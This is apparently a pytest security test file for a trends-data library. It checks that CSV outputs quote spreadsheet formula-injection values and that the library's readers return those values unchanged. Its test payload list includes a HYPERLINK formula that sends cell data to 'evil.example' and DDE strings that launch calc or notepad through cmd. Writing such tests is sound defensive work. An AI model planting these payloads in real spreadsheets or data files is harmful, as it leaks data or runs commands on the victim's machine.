"""Formula injection (security side of the matrix): text a user or a data file controls (query terms,
labels, event names, web-export headers, varied sweep values) that starts with ``=``, ``+``, ``-``,
``@``, tab or CR must reach no CSV trendlib writes in a form a spreadsheet would run. Every CSV is read
back cell by cell (the raw text, as a spreadsheet sees it); trendlib's own readers must give back the
original value."""
from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

from tests.conftest import write_tiny_study

from .conftest import cli, cli_here, snapshot

pytestmark = pytest.mark.matrix("security")

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+cmd|' /C notepad'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1"]
_RUNS = re.compile(r"[=+\-@\t\r]")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?%?")


def _cells(path: Path) -> list[str]:
    with open(path, encoding="utf-8", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def _would_run(path: Path) -> list[str]:
    """Cells a spreadsheet would take as a formula (plain numbers such as -5 are numbers, not formulas)."""
    return [c for c in _cells(path) if _RUNS.match(c) and not _NUMBER.fullmatch(c)]


def _quoted_numbers(path: Path) -> list[str]:
    """Numbers that were quoted (they must be left alone)."""
    return [c for c in _cells(path) if c.startswith("'") and _NUMBER.fullmatch(c[1:])]


def _check(paths: list[Path]) -> int:
    """Every CSV safe; returns how many of them carried a neutralised hostile value."""
    assert paths, "no CSV written"
    carried = 0
    for p in paths:
        assert not _would_run(p), f"{p.name}: cells a spreadsheet would run: {_would_run(p)[:3]}"
        assert not _quoted_numbers(p), f"{p.name}: numbers were changed: {_quoted_numbers(p)[:3]}"
        carried += any(c.startswith("'") and _RUNS.match(c[1:]) for c in _cells(p))
    return carried


# ------------------------------------------------------------------------------- fetch
def test_fetch_outputs_with_formula_terms(tmp_path, fake, case):
    """Query terms written into the series, the samples file and the region and related tables."""
    import trendlib
    terms = ["=1+2*cmd|' /C calc'!A0", FORMULAS[1]]  # Google terms have no commas
    out = tmp_path / "out" / "series.csv"
    proc = cli_here("fetch", *terms, "--geo", "RU", "--start", "2022-01-01", "--end", "2022-03-31", "--out", str(out),
                    "--cache-dir", str(tmp_path / "cache"), "--min-interval", "0", "--backoff", "0.001",
                    "--regions-out", str(out.with_name("regions.csv")), "--related-out",
                    str(out.with_name("related.csv")), url=fake.url)
    assert proc.returncode == 0, proc.stderr
    written = sorted(out.parent.glob("*.csv"))
    carried = _check(written)
    assert carried == len(written), f"a file lost the hostile terms: {[p.name for p in written]}"
    assert sorted(set(trendlib.load_trends(out)["query"])) == sorted(terms)  # read back as they were asked
    case.recovered(f"{len(written)} CSV files written, every formula cell quoted; terms read back unchanged")


# ------------------------------------------------------------------------------ import
def test_import_of_a_web_export_with_formula_terms(tmp_path, case):
    import trendlib
    export = tmp_path / "multiTimeline.csv"
    export.write_text("Category: All categories\n\n"
                      f"Week,\"{FORMULAS[0].replace(chr(34), chr(34) * 2)}: (Russia)\",{FORMULAS[2]}: (Russia)\n"
                      "2022-09-04,3,<1\n2022-09-11,5,2\n", encoding="utf-8")
    out = tmp_path / "tidy.csv"
    proc = cli_here("import", str(export), "--out", str(out))
    assert proc.returncode == 0, proc.stderr
    assert _check([out]) == 1
    assert sorted(set(trendlib.load_trends(out)["query"])) == sorted([FORMULAS[0], FORMULAS[2]])
    case.recovered("formula terms quoted in the tidy file, read back unchanged")


# ------------------------------------------------------------------------------ sweep
def test_sweep_comparison_with_formula_values(tmp_path, case):
    from trendlib.report.sweep import load_sweep, write_sweep_index
    study = write_tiny_study(tmp_path / "study")
    sweep_file = study.parent / "sweep.yaml"
    sweep_file.write_text(f"template: {study.name}\nvary:\n  title: [{json.dumps(FORMULAS[0])}, "
                          f"{json.dumps(FORMULAS[1])}, plain]\n", encoding="utf-8")
    sweep = load_sweep(sweep_file)
    folder = tmp_path / "out" / sweep.name
    folder.mkdir(parents=True)
    write_sweep_index(folder, sweep)
    assert _check([folder / "comparison.csv"]) == 1
    case.recovered("varied values quoted in comparison.csv")


# ------------------------------------------------------------------------ a whole report
@pytest.mark.slow
def test_report_tables_with_formula_labels_and_event_names(tmp_path, case):
    """Query labels and event names starting with = @ + - in a study rendered by the shipped notebooks:
    every tables/*.csv is safe, the hostile text is still there (quoted), numbers are untouched, and
    the study's inputs are untouched."""
    study = write_tiny_study(tmp_path / "study")
    text = study.read_text(encoding="utf-8").replace("label: Alpha label", f"label: {json.dumps(FORMULAS[0])}")
    study.write_text(text.replace("label: beta", f"label: {json.dumps(FORMULAS[1])}"), encoding="utf-8")
    events = study.parent / "data" / "events.csv"
    buf = io.StringIO()
    rows = list(csv.reader(io.StringIO(events.read_text(encoding="utf-8"))))
    rows[1][2], rows[2][2] = FORMULAS[2], FORMULAS[3]
    csv.writer(buf, lineterminator="\n").writerows(rows)
    events.write_text(buf.getvalue(), encoding="utf-8")
    before = snapshot(study.parent)
    out = tmp_path / "out"
    proc = cli("report", str(study), "--out", str(out), "--jobs", "2", timeout=880)
    assert proc.returncode == 0, proc.stderr[-3000:]
    tables = sorted((out / "tiny" / "tables").glob("*.csv"))
    carried = _check(tables)
    assert carried >= 1, "no table carried the labels: the test would prove nothing"
    case.intact(before, snapshot(study.parent))
    case.recovered(f"{len(tables)} tables written, {carried} with hostile labels or event names, all quoted")
